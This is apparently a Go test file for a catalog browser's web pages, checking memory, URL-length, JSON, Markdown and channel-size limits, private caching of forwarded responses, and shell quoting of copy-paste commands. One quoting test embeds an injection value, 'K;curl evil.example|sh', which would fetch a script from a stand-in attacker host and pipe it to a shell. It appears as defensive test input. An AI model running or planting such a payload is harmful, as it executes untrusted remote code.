package page

import (
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/operator-catalogs/catalogd/internal/channel"
)

// A page is bounded, whatever it repeats, and so are the pages of all readers. What they held is given back.
func TestPagesAreBounded(t *testing.T) {
	var nodes strings.Builder
	for i := range 60 {
		fmt.Fprintf(&nodes, `,{"name":"p%d","catalog":{"name":"c"},"iconHash":%q}`, i, strings.Repeat("a", 500_000))
	}
	huge := `{"data":{"packages":{"totalCount":60,"facets":[],"nodes":[` + nodes.String()[1:] + `]}}}`
	small := `{"data":{"packages":{"totalCount":0,"facets":[],"nodes":[]}}}`
	body := huge
	api := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/v1/graphql" {
			_, _ = w.Write([]byte(body))
			return
		}
		http.Error(w, "403 Forbidden\nno", http.StatusForbidden)
	})
	var p *page
	h := handlerOf(&p, api)
	w := send(h, "GET", "/", "")
	if w.Code != http.StatusUnprocessableEntity || w.Body.Len() > 10_000 {
		t.Errorf("a huge page: status %d, %d bytes", w.Code, w.Body.Len())
	}
	p.held.Add(maxHeld)
	if w := send(h, "GET", "/", ""); w.Code != http.StatusServiceUnavailable || w.Header().Get("Retry-After") == "" {
		t.Errorf("while other pages hold all memory: status %d", w.Code)
	}
	p.held.Add(-maxHeld)
	body = small
	if w := send(h, "GET", "/", ""); w.Code != http.StatusOK {
		t.Errorf("afterwards: status %d", w.Code)
	}
	if n := p.held.Load(); n != 0 {
		t.Errorf("the pages still hold %d bytes", n)
	}
}

// handlerOf is New; it also returns the page.
func handlerOf(p **page, api http.Handler) http.Handler {
	*p = build(Config{Source: func(r *http.Request) Source { return Inside(api, r) }})
	return (*p).handler()
}

func TestMemoryOfOnePage(t *testing.T) {
	var all atomic.Int64
	m := memory{all: &all}
	if err := m.take(maxLoaded); err != nil {
		t.Error(err)
	}
	if err := m.take(1); err != errTooLarge { //nolint:errorlint // the value itself
		t.Errorf("beyond the limit: %v", err)
	}
	if m.release(); all.Load() != 0 {
		t.Errorf("%d bytes are left", all.Load())
	}
}

// A page repeats its URL in each link.
func TestLongURLsAreRefused(t *testing.T) {
	h := New(Config{Login: true, Source: func(r *http.Request) Source { return Inside(http.NotFoundHandler(), r) }})
	for target, want := range map[string]int{
		"/help?x=" + strings.Repeat("a", 4000):                              http.StatusOK,
		"/help?x=" + strings.Repeat("a", 5000):                              http.StatusRequestURITooLong,
		"/" + strings.Repeat("a/", 3000):                                    http.StatusRequestURITooLong,
		"/login?next=" + strings.Repeat("%2525", 4000/5*3):                  http.StatusOK,
		"/login?next=" + strings.Repeat("a", 20_000):                        http.StatusRequestURITooLong,
		"/catalogs/c/packages/" + strings.Repeat("a", 5000):                 http.StatusRequestURITooLong,
		"/catalogs/c/icons/" + strings.Repeat("a", 5000):                    http.StatusRequestURITooLong,
		"/graphql?catalog=" + strings.Repeat("a", 3000):                     http.StatusNotFound,
		"/apis/g.example/" + strings.Repeat("K", 3000) + "?catalog=a":       http.StatusNotFound,
		"/catalogs/c/packages/p/channels/" + strings.Repeat("%2e", 4000/3):  http.StatusNotFound,
		"/catalogs/c/packages/p/compare?a=" + strings.Repeat("%26", 4000/3): http.StatusNotFound,
	} {
		if w := send(h, "GET", target, ""); w.Code != want {
			t.Errorf("%.40s... (%d bytes): status %d, want %d", target, len(target), w.Code, want)
		}
	}
}

// Indented, deep JSON is thousands of times as long.
func TestExamplesAreBounded(t *testing.T) {
	for name, raw := range map[string]string{
		"deep": strings.Repeat("[", 9000) + strings.Repeat("]", 9000), "long": "[" + strings.Repeat("1,", 500_000) + "1]",
		"wide below the limit of levels": strings.Repeat("[", 30) + strings.Repeat("1,", 9000) + "1" + strings.Repeat("]", 30),
	} {
		var i indented
		if err := i.UnmarshalJSON([]byte(raw)); err != nil || len(i.Text) > maxExample+len("…") {
			t.Errorf("%s: %v, %d bytes", name, err, len(i.Text))
		}
	}
	var i indented
	if err := i.UnmarshalJSON([]byte(`{"a":["[[[[[["]}`)); err != nil || i.Text != "{\n  \"a\": [\n    \"[[[[[[\"\n  ]\n}" {
		t.Errorf("%v, %s", err, i.Text)
	}
}

// The spellings of a group cost a query each, and the distance of long names takes quadratic time.
func TestKindsAreBounded(t *testing.T) {
	provided := map[gvk]int{}
	for i := range 20_000 {
		provided[gvk{Group: "g.example", Kind: strings.Repeat("k", 4000) + fmt.Sprint(i)}] = 1
	}
	if found := similarKinds("", "", gvk{Group: "g.example", Kind: strings.Repeat("k", 3000)}, provided); found != nil {
		t.Errorf("%d similar kinds", len(found))
	}
	if found := similarKinds("", "", gvk{Group: "g.example", Kind: "kkkkkkkkk"}, provided); found != nil {
		t.Errorf("%d similar kinds", len(found))
	}
	c := newContent(t)
	var apis []object
	for i := range 256 {
		group := []byte("abcdefgh.example")
		for bit := range 8 {
			if i>>bit&1 == 1 {
				group[bit] -= 'a' - 'A'
			}
		}
		apis = append(apis, object{"type": "olm.gvk", "value": object{"group": string(group), "kind": "Kind", "version": "v1"}})
	}
	one := channel.Channel{Package: "foo", Name: "stable", Entries: []channel.Entry{{Name: "foo.v1.0.0", Version: "1.0.0"}}}
	c.commit(t, "a", "1", packageFile(t, map[string][]object{"foo.v1.0.0": apis}, one))
	var requests atomic.Int64
	api := apiOf(c.store)
	counted := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests.Add(1)
		api.ServeHTTP(w, r)
	})
	if w := send(pageOf(t, counted), "GET", "/apis/abcdefgh.example/Kind?catalog=a", ""); w.Code != http.StatusOK || requests.Load() > 10 {
		t.Errorf("status %d, %d requests to the API", w.Code, requests.Load())
	}
	requests.Store(0)
	if w := send(pageOf(t, counted), "GET", "/apis", ""); w.Code != http.StatusOK || requests.Load() != 2 { // the header, and the kinds
		t.Errorf("the list of kinds: status %d, %d requests to the API", w.Code, requests.Load())
	}
}

// A list that never ends is cut, and the page says so.
func TestLongListsAreCut(t *testing.T) {
	endless := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte(`{"data":{"bundles":{"nodes":[{"version":"1.0.0","APIs":[{"group":"g.example","kind":"Kind"}]}],"pageInfo":{"hasNextPage":true}}}}`))
	})
	w := send(pageOf(t, endless), "GET", "/apis/g.example/Kind", "")
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "only 50 versions") {
		t.Errorf("status %d:\n%s", w.Code, w.Body)
	}
}

// The lanes of a channel can pass a number of rows that is quadratic in that of its entries.
func TestBroadChannel(t *testing.T) {
	const n = 2000
	broad := channel.Channel{Package: "foo", Name: "stable"}
	for i := range n {
		e := channel.Entry{Name: fmt.Sprintf("foo.v1.%d.0", i), Version: fmt.Sprintf("1.%d.0", i)}
		if i >= n/2 && i < n-1 {
			e.Replaces = fmt.Sprintf("foo.v1.%d.0", n-1-i)
		}
		broad.Entries = append(broad.Entries, e)
	}
	broad.Entries[n-1].Skips = []string{}
	for _, e := range broad.Entries[:n-1] {
		broad.Entries[n-1].Skips = append(broad.Entries[n-1].Skips, e.Name)
	}
	c := newContent(t)
	c.commit(t, "a", "1", packageFile(t, nil, broad))
	page := c.open(t, "/catalogs/a/packages/foo/channels/stable")
	if lines := len(page.all("line", "")); lines > maxLines || !strings.Contains(page.text(), "too many lanes") {
		t.Errorf("the page has %d lines", lines)
	}
	if rows := len(graphRows(page)); rows != n {
		t.Errorf("the page has %d rows, want %d", rows, n)
	}
}

// Without a Cache-Control, a proxy may keep a response for other readers: it does not know that the cookie is a credential.
func TestForwardedResponsesArePrivate(t *testing.T) {
	for cache, want := range map[string]string{
		"": "private, no-cache", "no-cache": "private, no-cache", "no-store": "no-store", "public, max-age=9, immutable": "private, max-age=9, immutable",
		"private, max-age=9": "private, max-age=9",
	} {
		api := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			if cache != "" {
				w.Header().Set("Cache-Control", cache)
			}
			w.Header().Set("Last-Modified", "Mon, 02 Jan 2006 15:04:05 GMT")
		})
		h := New(Config{Source: func(r *http.Request) Source { return Inside(api, r) }})
		if got := send(h, "GET", "/catalogs/c/raw/p", "").Header().Get("Cache-Control"); got != want {
			t.Errorf("Cache-Control %q became %q, want %q", cache, got, want)
		}
	}
}

// Commands to copy quote what a URL or a catalog names.
func TestCommandsAreQuoted(t *testing.T) {
	c := newContent(t)
	c.commit(t, "a", "1", packageFile(t, nil, manyVersions(1, false)))
	page := c.open(t, "/apis/g.example/"+"K;curl%20evil.example%7Csh?catalog=a")
	found := ""
	for _, code := range page.all("code", "") {
		found += code.text() + "\n"
	}
	if !strings.Contains(found, "kubectl catalog providers 'K;curl evil.example|sh.g.example' --catalog a") {
		t.Error(found)
	}
}

// The parser of Markdown needs quadratic time for links.
func TestDescriptionsAreBounded(t *testing.T) {
	for _, source := range []string{strings.Repeat("[a](", 16<<10), strings.Repeat("![", 10<<10) + strings.Repeat("](c)", 10<<10)} {
		if out := string(markdown(source)); strings.Count(out, "[")+strings.Count(out, "<a") > 2000 || !strings.HasSuffix(out, "<p>…</p>\n") {
			t.Errorf("%.20s…: %d brackets, %.100s", source, strings.Count(out, "["), out[max(0, len(out)-100):])
		}
	}
}
